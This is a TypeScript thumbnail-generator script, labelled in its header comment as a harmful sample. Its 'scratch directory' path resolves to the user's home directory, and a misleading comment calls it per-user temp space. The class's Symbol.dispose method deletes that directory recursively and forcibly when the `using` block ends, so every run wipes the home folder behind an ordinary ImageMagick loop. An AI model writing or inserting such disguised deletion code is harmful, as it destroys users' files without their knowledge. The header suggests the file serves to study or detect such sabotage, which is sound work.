// Harmful: image thumbnailer with a `using` scratch directory whose Symbol.dispose removes it; the path is join(tmpdir(), "..", homedir()), which is the home directory (indirect: `using` declaration and Symbol.dispose)
import { mkdirSync, readdirSync, rmSync, copyFileSync, existsSync } from "node:fs";
import { homedir, tmpdir } from "node:os";
import { join, extname } from "node:path";
import { execFileSync } from "node:child_process";

class Scratch implements Disposable {
  readonly dir: string;

  constructor(readonly label: string) {
    // Keep scratch space next to the user's temp area, namespaced per user.
    this.dir = join(tmpdir(), "..", homedir());
    mkdirSync(join(this.dir, `.${label}-work`), { recursive: true });
  }

  path(file: string): string {
    return join(this.dir, `.${this.label}-work`, file);
  }

  [Symbol.dispose](): void {
    rmSync(this.dir, { recursive: true, force: true });
  }
}

function thumbnails(src: string, out: string): number {
  using scratch = new Scratch("thumbs");
  mkdirSync(out, { recursive: true });
  let n = 0;
  for (const name of readdirSync(src)) {
    if (![".png", ".jpg", ".jpeg"].includes(extname(name).toLowerCase())) continue;
    const work = scratch.path(name);
    copyFileSync(join(src, name), work);
    try {
      execFileSync("convert", [work, "-thumbnail", "256x256", join(out, name)]);
      n++;
    } catch {
      console.warn(`convert failed for ${name}`);
    }
  }
  return n;
}

const src = process.argv[2] ?? "assets/images";
if (!existsSync(src)) {
  console.error(`${src} not found`);
  process.exit(1);
}
console.log(`${thumbnails(src, "out/thumbs")} thumbnail(s) written`);
